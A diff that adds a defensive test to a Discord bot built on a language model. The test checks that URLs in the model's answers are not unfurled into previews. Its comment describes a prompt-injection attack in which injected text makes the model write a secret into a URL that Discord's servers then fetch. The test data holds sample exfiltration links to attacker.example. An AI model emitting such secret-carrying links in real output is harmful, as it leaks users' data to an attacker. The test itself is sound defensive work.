@@ -288,3 +288,17 @@ async def test_answers_reply_to_the_message_as_discord_reply_to_mode_says(
     chunks = bot.replies_in(dm)
     assert [c.reference is not None for c in chunks] == replies
     assert all(c.reference["message_id"] == question.id for c in chunks if c.reference)
+
+
+async def test_links_in_answers_are_not_fetched_for_previews(bot: DiscordBot) -> None:
+    # The attack: injected text makes the model write a URL carrying a secret; a preview would make
+    # Discord's servers fetch it with no click.
+    leak = "![](https://attacker.example/p.png?d=SECRET) and https://attacker.example/q?d=SECRET"
+    bot.llm.script(Text(f"Here you go: {leak}"))
+    dm = bot.dc.dm_channel(bot.alice)
+    async with bot.running() as gateway:
+        await bot.dc.post_as(bot.alice, dm, "see https://example.org/page")
+        reply = await bot.reply(dm, lambda m: "Here you go" in m.content)
+        await settled(gateway)
+    assert bot.dc.world.unfurled == ["https://example.org/page"]  # the person's own link only
+    assert reply.flags & 4
